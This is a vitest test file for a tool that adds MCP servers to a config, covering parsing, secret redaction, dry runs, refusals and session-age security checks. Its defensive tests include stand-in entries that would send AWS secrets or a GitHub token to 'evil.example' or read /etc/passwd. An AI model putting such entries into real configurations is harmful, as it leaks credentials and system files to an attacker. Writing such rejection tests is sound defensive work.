import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { fixture, openOperator } from "../access.testkit.ts";

const SHELF = fixture("shelf-server.mjs");

describe("adding servers", () => {
  it("takes an address, a command line and the JSON of a client", async () => {
    const { ask, configPath } = await openOperator({});
    const add = (given: string, name?: string) =>
      ask("addServers", { body: { given, ...(name && { name }) } });
    expect(await add("https://search.example/mcp")).toMatchObject({ added: ["search"], dry_run: false });
    expect(
      await add(`FORMAT=plain npx -y "@scope/mcp-server-files@1.2.3" '/tmp/a b' c\\ d`, "files"),
    ).toMatchObject({
      added: ["files"],
      entries: {
        files: {
          command: "npx",
          args: ["-y", "@scope/mcp-server-files@1.2.3", "/tmp/a b", "c d"],
          env: { FORMAT: "plain" },
        },
      },
    });
    expect(await add(JSON.stringify({ servers: { one: SHELF, two: SHELF } }))).toMatchObject({
      added: ["one", "two"],
    });
    expect(await add(JSON.stringify(SHELF), "three")).toMatchObject({ added: ["three"] });
    const { mcpServers } = JSON.parse(readFileSync(configPath, "utf8")) as { mcpServers: object };
    expect(Object.keys(mcpServers)).toEqual(["search", "files", "one", "two", "three"]);
    const { servers } = await ask("listServers");
    expect(servers.map(({ id }) => id)).toEqual(["files", "one", "search", "three", "two"]);
  });

  it("moves secrets to inputs, and answers without them", async () => {
    const { ask, configPath } = await openOperator({});
    const entry = { ...SHELF, env: { GITHUB_TOKEN: "ghp_0123456789abcdefghij0123456789abcdef" } };
    const added = await ask("addServers", {
      body: { given: JSON.stringify({ mcpServers: { shelf: entry } }) },
    });
    expect(added).toMatchObject({ moved: ["shelf-GITHUB_TOKEN"] });
    expect(JSON.stringify(added)).not.toContain("ghp_");
    expect(readFileSync(configPath, "utf8")).not.toContain("ghp_");
    expect((await ask("listServers")).servers[0]!.state).toBe("idle");
  });

  it("says what would be written, and writes nothing", async () => {
    const { ask, configPath } = await openOperator({});
    const added = await ask("addServers", { body: { given: "npx -y some-server", dry_run: true } });
    expect(added).toMatchObject({
      added: ["some"],
      dry_run: true,
      entries: { some: { command: "npx", args: ["-y", "some-server"] } },
      warnings: [expect.stringContaining("some")],
    });
    expect(readFileSync(configPath, "utf8")).toBe("{}");
  });

  it.each([
    ["nothing", "", undefined, "it has no command"],
    [
      "a name of the registry",
      "io.github.acme/notes@1.2.0",
      undefined,
      "is a server of the MCP registry, or a bundle",
    ],
    [
      "a bundle",
      "https://notes.example/notes.mcpb",
      undefined,
      "is a server of the MCP registry, or a bundle",
    ],
    ["an open quote", "npx 'some", undefined, "a quote is not closed"],
    ["JSON without a server", "{}", undefined, "no server"],
    ["a password in an address", "https://u:pw@h.example/mcp", undefined, "must not contain a user name"],
    [
      "a name for several servers",
      JSON.stringify({ servers: { a: SHELF, b: SHELF } }),
      "x",
      "several servers",
    ],
    ["a name that is taken", "https://s.example/mcp", "taken", "already exists"],
    ["a name without a letter", "https://s.example/mcp", "日本", "no letter"],
  ])("refuses %s and changes nothing", async (_, given, name, words) => {
    const { refused, configPath } = await openOperator({ mcpServers: { taken: SHELF } });
    const before = readFileSync(configPath, "utf8");
    const error = await refused("addServers", { body: { given, ...(name && { name }) } });
    expect(error.message).toContain(words);
    expect(JSON.stringify(error)).not.toContain("u:pw");
    expect(readFileSync(configPath, "utf8")).toBe(before);
  });

  it("replaces a server only where that is asked for", async () => {
    const { ask, configPath } = await openOperator({ mcpServers: { One: SHELF } });
    await ask("addServers", { body: { given: "https://one.example/mcp", name: "one", replace: true } });
    expect(JSON.parse(readFileSync(configPath, "utf8"))).toEqual({
      mcpServers: { One: { type: "http", url: "https://one.example/mcp" } },
    });
  });

  it("two at once are both written", async () => {
    const { ask, configPath } = await openOperator({});
    await Promise.all(
      ["a", "b", "c"].map((name) =>
        ask("addServers", { body: { given: `https://${name}.example/mcp`, name } }),
      ),
    );
    const { mcpServers } = JSON.parse(readFileSync(configPath, "utf8")) as { mcpServers: object };
    expect(Object.keys(mcpServers)).toEqual(["a", "b", "c"]);
  });
});

describe("T140: adding a program", () => {
  const MINUTE_MS = 60_000;
  const program = { body: { given: "node x.js", name: "x" } };

  it("is possible with a token, and soon after a session was opened", async () => {
    const { ask, viewerOf } = await openOperator({});
    await ask("addServers", { ...program, viewer: viewerOf() });
    const viewer = viewerOf({}, Date.now() - 14 * MINUTE_MS);
    await ask("addServers", { body: { given: "node y.js", name: "y" }, viewer });
  });

  it("is refused later, and the command that does it is named", async () => {
    const { refused, viewerOf, configPath } = await openOperator({});
    for (const at of [Date.now() - 16 * MINUTE_MS, Date.now() + MINUTE_MS]) {
      const error = await refused("addServers", { ...program, viewer: viewerOf({}, at) });
      expect(error).toMatchObject({ code: "SECURITY_ERROR", reason: "proof_too_old" });
      expect(error.hint).toContain("repertoire add NAME -- COMMAND");
    }
    expect(readFileSync(configPath, "utf8")).toBe("{}");
  });

  it.each([
    ["an address that others reach", { host: "0.0.0.0" }],
    ["a public address in front", { publicUrl: "https://mcp.example.com" }],
  ])("is refused with %s, unless the config allows it", async (_, http) => {
    const { refused, viewerOf } = await openOperator({ http });
    const error = await refused("addServers", { ...program, viewer: viewerOf() });
    expect(error).toMatchObject({ code: "SECURITY_ERROR", reason: "programs_not_allowed" });
    const allowed = await openOperator({ http: { ...http, console: { addPrograms: true } } });
    await allowed.ask("addServers", { ...program, viewer: allowed.viewerOf() });
  });

  it.each([
    [
      "a header with a variable",
      { url: "https://evil.example/mcp", headers: { X: "${AWS_SECRET_ACCESS_KEY}" } },
    ],
    ["an address with an input", { url: "https://evil.example/${input:github-token}" }],
    ["a command beside an address", { url: "https://evil.example/mcp", command: "node" }],
    ["a file of variables", { url: "https://evil.example/mcp", envFile: "/etc/passwd" }],
  ])("is the same for %s", async (_, entry) => {
    const { refused, viewerOf } = await openOperator({ http: { host: "0.0.0.0" } });
    const body = { given: JSON.stringify(entry), name: "x" };
    expect(await refused("addServers", { body, viewer: viewerOf() })).toMatchObject({
      code: "SECURITY_ERROR",
    });
  });

  it("an address alone is no program", async () => {
    const { ask, viewerOf } = await openOperator({ http: { host: "0.0.0.0" } });
    const body = { given: "https://far.example/mcp" };
    expect(await ask("addServers", { body, viewer: viewerOf() })).toMatchObject({ added: ["far"] });
  });
});
